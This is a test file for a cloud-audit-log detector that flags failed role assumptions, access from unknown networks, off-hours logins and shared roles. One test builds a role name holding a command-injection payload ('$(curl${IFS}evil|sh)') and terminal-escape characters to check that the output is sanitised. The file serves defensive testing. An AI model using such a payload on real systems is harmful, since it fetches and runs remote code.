import { describe, expect, test } from 'vitest';
import type { CloudTrailRecord } from '../trail/index.ts';
import { createDetector, rules } from './index.ts';
import {
  ADMIN,
  ATTACKER,
  assumed,
  byService,
  config,
  denied,
  OFFICE,
  other,
  ROLE,
  SECURITY,
  session,
  sessionToken,
  user,
  WORKLOAD,
} from './testing/records.ts';
import type { DetectConfig, Finding } from './types.ts';

const detect = (records: readonly CloudTrailRecord[], with_: Partial<DetectConfig> = {}): Finding[] => {
  const detector = createDetector({ ...config, ...with_ });
  for (const record of records) detector.add(record);
  return detector.finish();
};
const of = (rule: string, findings: readonly Finding[]): Finding[] => findings.filter((f) => f.rule === rule);
const at = (clock: string): string => `2026-11-23T${clock}Z`;

// 03:15 in the attack of MISSION; the zone is UTC there.
const attack = ['03:15:00', '03:16:00', '03:17:00'].map((clock) =>
  denied({ time: at(clock), from: ATTACKER }),
);
const ids = (records: readonly CloudTrailRecord[]): string[] => records.map((record) => record.eventID);

describe('failed-assume-role', () => {
  test('the worked attack: three refusals in three minutes from 35.201.45.89', () => {
    const [finding, ...rest] = of('failed-assume-role', detect(attack));
    expect(rest).toEqual([]);
    expect(finding).toMatchObject({
      severity: 'high',
      principal: ADMIN,
      role: ROLE,
      sourceIp: ATTACKER,
      account: SECURITY,
      time: at('03:17:00'),
      events: ids(attack),
    });
    expect(finding?.runbook[0]).toBe('crossaccount respond rotate-key --operator security-admin');
    expect(finding?.explanation).toContain(`refused 3 times between 2026-11-23 03:15:00 UTC`);
  });

  test('two are a typing error, and three slower than the window are below the threshold (the rule’s limit)', () => {
    expect(of('failed-assume-role', detect(attack.slice(0, 2)))).toEqual([]);
    const slow = ['03:00:00', '03:02:31', '03:05:01'].map((clock) =>
      denied({ time: at(clock), from: ATTACKER }),
    );
    expect(of('failed-assume-role', detect(slow))).toEqual([]);
    const just = ['03:00:00', '03:02:31', '03:05:00'].map((clock) =>
      denied({ time: at(clock), from: ATTACKER }),
    );
    expect(of('failed-assume-role', detect(just))).toHaveLength(1);
  });

  test('a success after the refusals is critical, and its role is the first to be revoked', () => {
    const success = assumed({ time: at('03:18:30'), from: ATTACKER });
    const [finding] = of('failed-assume-role', detect([...attack, ...success]));
    expect(finding?.severity).toBe('critical');
    expect(finding?.events).toEqual([...ids(attack), success[0].eventID]);
    expect(finding?.runbook[0]).toBe(
      `crossaccount respond revoke --role SecurityAuditRole --account ${WORKLOAD}`,
    );
  });

  test('a success before the refusals, much later, or of somebody else elsewhere does not make it critical', () => {
    for (const success of [
      assumed({ time: at('03:10:00'), from: ATTACKER }),
      assumed({ time: at('03:40:00'), from: ATTACKER }),
      assumed({ time: at('03:18:00'), from: OFFICE, by: user('someone-else') }),
    ]) {
      expect(of('failed-assume-role', detect([...attack, ...success]))[0]?.severity).toBe('high');
    }
  });

  test('a session token of somebody else, or of one who was refused a role, is no way in', () => {
    const from = OFFICE;
    const refused = attack.map((record) => ({ ...record, sourceIPAddress: from }));
    for (const after of [
      [sessionToken({ time: at('03:18:00'), from, by: user('mallory', '111122223333') })],
      [sessionToken({ time: at('03:18:00'), from })],
      assumed({ time: at('03:18:00'), from, by: user('colleague'), role: `${ROLE}Other` }),
    ]) {
      expect(of('failed-assume-role', detect([...refused, ...after]))).toMatchObject([
        { severity: 'medium', events: ids(refused) },
      ]);
    }
    // Mallory at the role that was probed is; so is a token for whoever had guessed codes for one.
    const entered = assumed({ time: at('03:18:00'), from, by: user('mallory', '111122223333') });
    expect(of('failed-assume-role', detect([...refused, ...entered]))[0]?.severity).toBe('critical');
    const codes = refused.map((record) => ({
      ...record,
      eventName: 'GetSessionToken',
      errorMessage: 'MultiFactorAuthentication failed with invalid MFA one time pass code. ',
    }));
    const token = sessionToken({ time: at('03:18:00'), from });
    expect(of('failed-assume-role', detect([...codes, token]))[0]?.severity).toBe('critical');
  });

  test('one address with many users, many addresses at one role, and session names that change', () => {
    const names = ['ana', 'ben', 'cy'];
    const spray = names.map((n, i) =>
      denied({ time: at(`10:0${i}:00`), by: user(n), from: ATTACKER, role: `${ROLE}${i}` }),
    );
    expect(of('failed-assume-role', detect(spray))).toHaveLength(1);
    const botnet = names.map((n, i) =>
      denied({ time: at(`10:0${i}:00`), by: user(n), from: `203.0.113.${i}` }),
    );
    expect(of('failed-assume-role', detect(botnet))).toHaveLength(1);
    const renamed = names.map((n, i) =>
      denied({
        time: at(`10:0${i}:00`),
        by: session('Ops', `s-${n}`),
        from: `203.0.113.${i}`,
        role: `${ROLE}${i}`,
      }),
    );
    expect(of('failed-assume-role', detect(renamed))).toHaveLength(1);
    const spread = names.map((n, i) =>
      denied({ time: at(`10:0${i}:00`), by: user(n), from: `203.0.113.${i}`, role: `${ROLE}${i}` }),
    );
    expect(of('failed-assume-role', detect(spread))).toEqual([]);
  });

  test('addresses of one IPv6 /64 and IPv4-mapped spellings are one source', () => {
    const six = [1, 2, 3].map((i) =>
      denied({ time: at(`10:0${i}:00`), by: user(`u${i}`), from: `2001:db8:1:2::${i}`, role: `${ROLE}${i}` }),
    );
    expect(of('failed-assume-role', detect(six))).toHaveLength(1);
    const mapped = [ATTACKER, `::ffff:${ATTACKER}`, '::FFFF:23c9:2d59'].map((from, i) =>
      denied({ time: at(`10:0${i}:00`), by: user(`u${i}`), from, role: `${ROLE}${i}` }),
    );
    const [finding] = of('failed-assume-role', detect(mapped));
    expect(finding?.sourceIp).toBe(ATTACKER);
  });

  test('wrong MFA codes name no role and count; expired credentials are no refusal', () => {
    const codes = attack.map((record) => ({
      ...record,
      errorMessage: 'MultiFactorAuthentication failed with invalid MFA one time pass code. ',
    }));
    expect(of('failed-assume-role', detect(codes))).toHaveLength(1);
    const expired = attack.map((record) => ({ ...record, errorCode: 'ExpiredTokenException' }));
    expect(of('failed-assume-role', detect(expired))).toEqual([]);
  });

  test('other teams’ broken jobs at roles that nobody watches are not ours; names tried in a watched account are', () => {
    const theirs = {
      by: session('Ci', 'job', '111122223333'),
      role: 'arn:aws:iam::444455556666:role/Deploy',
    };
    expect(
      detect(['10:00:00', '10:01:00', '10:02:00'].map((c) => denied({ time: at(c), ...theirs }))),
    ).toEqual([]);
    const guessed = [1, 2, 3].map((i) =>
      denied({ ...theirs, time: at(`10:0${i}:00`), role: `arn:aws:iam::${WORKLOAD}:role/Guess${i}` }),
    );
    expect(of('failed-assume-role', detect(guessed))).toHaveLength(1);
  });

  test('one episode an attack, however long; two when it comes back later', () => {
    const long = Array.from({ length: 40 }, (_, i) =>
      denied({ time: new Date(Date.parse(at('10:00:00')) + i * 60_000).toISOString(), from: ATTACKER }),
    );
    const [one, ...more] = of('failed-assume-role', detect(long));
    expect(more).toEqual([]);
    expect(one?.events).toHaveLength(40);
    const again = ['05:15:00', '05:16:00', '05:17:00'].map((c) => denied({ time: at(c), from: ATTACKER }));
    expect(of('failed-assume-role', detect([...attack, ...again]))).toHaveLength(2);
  });
});

describe('unknown-network', () => {
  const noon = at('11:00:00');
  test('a success from outside is high, a refusal medium, from inside nothing', () => {
    expect(detect(assumed({ time: noon, from: ATTACKER }))).toMatchObject([
      { rule: 'unknown-network', severity: 'high', sourceIp: ATTACKER, role: ROLE, principal: ADMIN },
    ]);
    expect(detect([denied({ time: noon, from: ATTACKER })])).toMatchObject([{ severity: 'medium' }]);
    for (const from of [OFFICE, `::ffff:${OFFICE}`, '2001:DB8:77:0:0::9']) {
      expect(detect(assumed({ time: noon, from }))).toEqual([]);
    }
    expect(detect(assumed({ time: noon, from: '2001:db8:78::9' }))).toHaveLength(1);
  });

  test('one finding a caller, network, role and day', () => {
    const day = ['08:00:00', '09:30:00', '14:00:00'].flatMap((c) => assumed({ time: at(c), from: ATTACKER }));
    expect(detect(day)).toHaveLength(1);
    const next = assumed({ time: '2026-11-24T09:00:00Z', from: ATTACKER });
    expect(detect([...day, ...next])).toHaveLength(2);
  });

  test('an office address that is an address in a stranger’s VPC is unknown', () => {
    const through = (vpcEndpointAccountId: string, from = OFFICE) =>
      detect(
        assumed({
          time: noon,
          from,
          more: { vpcEndpointId: 'vpce-0123456789abcdef0', vpcEndpointAccountId },
        }),
      );
    expect(through('111122223333')).toMatchObject([{ rule: 'unknown-network', severity: 'high' }]);
    expect(through('111122223333')[0]?.explanation).toContain('VPC endpoint of account 111122223333');
    for (const ours of [SECURITY, WORKLOAD]) expect(through(ours)).toEqual([]);
  });

  test('the console is a person', () => {
    const by = { ...user('security-admin'), invokedBy: 'signin.amazonaws.com' };
    expect(detect(assumed({ time: noon, from: ATTACKER, by }))).toMatchObject([{ rule: 'unknown-network' }]);
  });

  test('services, host names and roles that nobody watches are left out; so is everything without known networks', () => {
    expect(detect([byService({ time: noon })])).toEqual([]);
    for (const from of ['cloudformation.amazonaws.com', 'AWS Internal']) {
      expect(detect(assumed({ time: noon, from }))).toEqual([]);
    }
    const foreign = { time: noon, from: ATTACKER, by: user('x', '111122223333') };
    expect(detect(assumed({ ...foreign, role: 'arn:aws:iam::111122223333:role/Theirs' }))).toEqual([]);
    expect(detect(assumed({ time: noon, from: ATTACKER }), { knownNetworks: [] })).toEqual([]);
  });

  test('a userAgent that claims to be a service buys nothing', () => {
    const more = { userAgent: 'cloudformation.amazonaws.com' };
    expect(detect(assumed({ time: noon, from: ATTACKER, more }))).toHaveLength(1);
  });

  test('both copies, or only one of them, are one event', () => {
    const [theirs, ours] = assumed({ time: noon, from: ATTACKER });
    expect(detect([ours, theirs])).toEqual(detect([theirs, ours, ours, theirs]));
    expect(detect([ours, theirs])[0]?.events).toEqual([theirs.eventID]);
    expect(detect([ours])).toMatchObject([
      { principal: ours.userIdentity.principalId, events: [ours.eventID] },
    ]);
  });
});

describe('outside-business-hours', () => {
  const rule = 'outside-business-hours';
  const night = (time: string, hours: Partial<DetectConfig['businessHours']> = {}) =>
    of(rule, detect(assumed({ time }), { businessHours: { ...config.businessHours, ...hours } }));

  test.each([
    // Berlin is UTC+1 in winter and UTC+2 in summer; 2026-03-29 01:00 UTC it changes.
    ['2026-11-23T07:00:00Z', true],
    ['2026-11-23T06:59:59Z', false],
    ['2026-11-23T16:59:59Z', true],
    ['2026-11-23T17:00:00Z', false],
    ['2026-07-06T06:00:00Z', true],
    ['2026-07-06T05:59:59Z', false],
    ['2026-07-06T16:00:00Z', false],
    ['2026-03-27T06:30:00Z', false],
    ['2026-03-30T06:30:00Z', true],
    ['2026-11-21T10:00:00Z', false],
    ['2026-11-22T10:00:00Z', false],
  ])('%s is within business hours: %s', (time, open) => {
    expect(night(time)).toHaveLength(open ? 0 : 1);
  });

  test.each([
    // Friday night's shift ends on Saturday morning; Monday morning has none before it.
    ['2026-11-27T23:00:00Z', true],
    ['2026-11-28T04:59:00Z', true],
    ['2026-11-28T05:00:00Z', false],
    ['2026-11-23T04:00:00Z', false],
    ['2026-11-23T21:00:00Z', true],
    ['2026-11-28T21:30:00Z', false],
  ])('over midnight, %s: %s', (time, open) => {
    expect(night(time, { from: '22:00', to: '06:00' })).toHaveLength(open ? 0 : 1);
  });

  test('half-hour zones, and whole days', () => {
    expect(night('2026-11-23T02:30:00Z', { timeZone: 'Asia/Kolkata' })).toEqual([]);
    expect(night('2026-11-23T02:29:00Z', { timeZone: 'Asia/Kolkata' })).toHaveLength(1);
    expect(night('2026-11-23T01:00:00Z', { from: '00:00', to: '24:00' })).toEqual([]);
    expect(night('2026-11-22T12:00:00Z', { from: '00:00', to: '24:00' })).toHaveLength(1);
  });

  test('one finding a caller and night, across midnight, high from an unknown address, low when refused', () => {
    const calls = ['2026-11-23T21:00:00Z', '2026-11-24T02:00:00Z'].flatMap((time) => assumed({ time }));
    expect(of(rule, detect(calls))).toMatchObject([{ severity: 'medium', time: '2026-11-24T02:00:00Z' }]);
    expect(of(rule, detect(assumed({ time: at('03:00:00'), from: ATTACKER })))[0]?.severity).toBe('high');
    expect(of(rule, detect([denied({ time: at('03:00:00') })]))[0]?.severity).toBe('low');
  });

  test('GetSessionToken counts for those who may enter, not for everybody', () => {
    expect(of(rule, detect([sessionToken({ time: at('03:00:00') })]))).toHaveLength(1);
    expect(of(rule, detect([sessionToken({ time: at('03:00:00'), by: user('stranger') })]))).toEqual([]);
    expect(of(rule, detect([byService({ time: at('03:00:00') })]))).toEqual([]);
  });
});

describe('shared-role', () => {
  const rule = 'shared-role';
  const three = ['ana', 'ben', 'cy'].flatMap((name, i) =>
    assumed({ time: at(`10:${i}0:00`), by: user(name) }),
  );

  test('three people in one role within the hour, once', () => {
    expect(of(rule, detect(three))).toMatchObject([
      { role: ROLE, severity: 'medium', events: { length: 3 } },
    ]);
  });

  test('two people, one person often, three slower than the window, three at different roles: nothing', () => {
    expect(of(rule, detect(three.slice(0, 4)))).toEqual([]);
    expect(
      of(rule, detect(Array.from({ length: 9 }, () => assumed({ time: at('10:00:00') })).flat())),
    ).toEqual([]);
    const slow = ['ana', 'ben', 'cy'].flatMap((n, i) =>
      assumed({ time: at(`${10 + i}:00:00`), by: user(n) }),
    );
    expect(of(rule, detect(slow))).toEqual([]);
    const roles = ['ana', 'ben', 'cy'].flatMap((n) =>
      assumed({ time: at('10:00:00'), by: user(n), role: `${ROLE}-${n}` }),
    );
    expect(of(rule, detect(roles, { roles: [] }))).toEqual([]);
  });

  test('session names make nobody several people, source identities do', () => {
    const by = (who: string, identity?: string) => session('Ops', who, SECURITY, identity);
    const named = ['a', 'b', 'c'].flatMap((n) => assumed({ time: at('10:00:00'), by: by(n) }));
    expect(of(rule, detect(named))).toEqual([]);
    const known = ['a', 'b', 'c'].flatMap((n) => assumed({ time: at('10:00:00'), by: by(n, `person-${n}`) }));
    expect(of(rule, detect(known))).toHaveLength(1);
  });
});

describe('all rules', () => {
  test('a working day of people, services and other calls gives nothing', () => {
    const day: CloudTrailRecord[] = [];
    const clock = (minute: number) =>
      new Date(Date.parse('2026-11-23T07:00:00Z') + minute * 60_000).toISOString();
    for (let i = 0; i < 200; i++) {
      const time = clock(i * 2.9);
      day.push(
        byService({ time: clock(i * 7 - 400) }),
        other({ time }, 'ec2.amazonaws.com', 'DescribeInstances'),
      );
      day.push(other({ time: clock(i * 5 - 300), from: ATTACKER }, 's3.amazonaws.com', 'ListBuckets'));
      if (i % 8 === 0) day.push(...assumed({ time }), sessionToken({ time }));
      if (i % 50 === 0) day.push(denied({ time }));
    }
    expect(day.length).toBeGreaterThanOrEqual(500);
    expect(detect(day)).toEqual([]);
    // The same day with the attack in it gives the attack.
    expect(of('failed-assume-role', detect([...day, ...attack]))).toHaveLength(1);
  });

  test('what callers choose reaches neither a shell nor a terminal as it is', () => {
    const role = 'arn:aws:iam::657654036224:role/$(curl${IFS}evil|sh)';
    const esc = String.fromCharCode(27);
    const by = session('Ops', `x${esc}[2J\u202etxt`);
    const records = [1, 2, 3].map((i) => denied({ time: at(`03:1${i}:00`), from: ATTACKER, role, by }));
    const findings = detect(records, { trusted: { [ROLE]: [`arn:aws:iam::${SECURITY}:role/Ops`] } });
    expect(findings.length).toBeGreaterThan(1);
    const printed = JSON.stringify(findings.map(({ events: _, ...rest }) => rest));
    expect(printed).not.toContain('curl');
    expect(printed).not.toMatch(/\\u001b|\u202e/);
  });

  test('every finding is complete, and its rule is in the table', () => {
    const findings = detect([
      ...attack,
      ...assumed({ time: at('03:18:00'), from: ATTACKER }),
      ...['ana', 'ben', 'cy'].flatMap((name) => assumed({ time: at('10:00:00'), by: user(name) })),
    ]);
    expect(new Set(findings.map((f) => f.rule)).size).toBe(4);
    for (const finding of findings) {
      expect(rules.map((rule) => rule.id)).toContain(finding.rule);
      expect(finding.runbook.length).toBeGreaterThan(0);
      expect(finding.mitre.every((technique) => /^T\d{4}(\.\d{3})?$/.test(technique))).toBe(true);
      expect(finding.explanation).not.toMatch(/undefined|NaN|\[object/);
    }
    expect(findings.map((f) => f.time)).toEqual(findings.map((f) => f.time).sort());
  });

  test('a detector is empty after finish', () => {
    const detector = createDetector(config);
    for (const record of attack) detector.add(record);
    expect(detector.finish().length).toBeGreaterThan(0);
    expect(detector.finish()).toEqual([]);
  });

  test('a zone or a time of day that is none is refused at once', () => {
    const hours = config.businessHours;
    expect(() =>
      createDetector({ ...config, businessHours: { ...hours, timeZone: 'Mars/Olympus' } }),
    ).toThrow(RangeError);
    expect(() => createDetector({ ...config, businessHours: { ...hours, from: '8 am' } })).toThrow(/08:00/);
  });
});
